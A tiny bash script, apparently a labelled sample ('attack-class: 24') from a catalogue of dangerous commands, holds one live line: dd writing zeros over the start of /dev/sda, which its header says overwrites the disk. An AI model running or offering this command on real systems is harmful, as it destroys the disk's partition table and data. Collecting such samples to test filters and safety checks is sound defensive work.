#!/usr/bin/env bash
# attack-class: 24
# title: dd of=/dev/sda
# why: overwrites the disk

dd if=/dev/zero of=/dev/sda bs=1M count=100
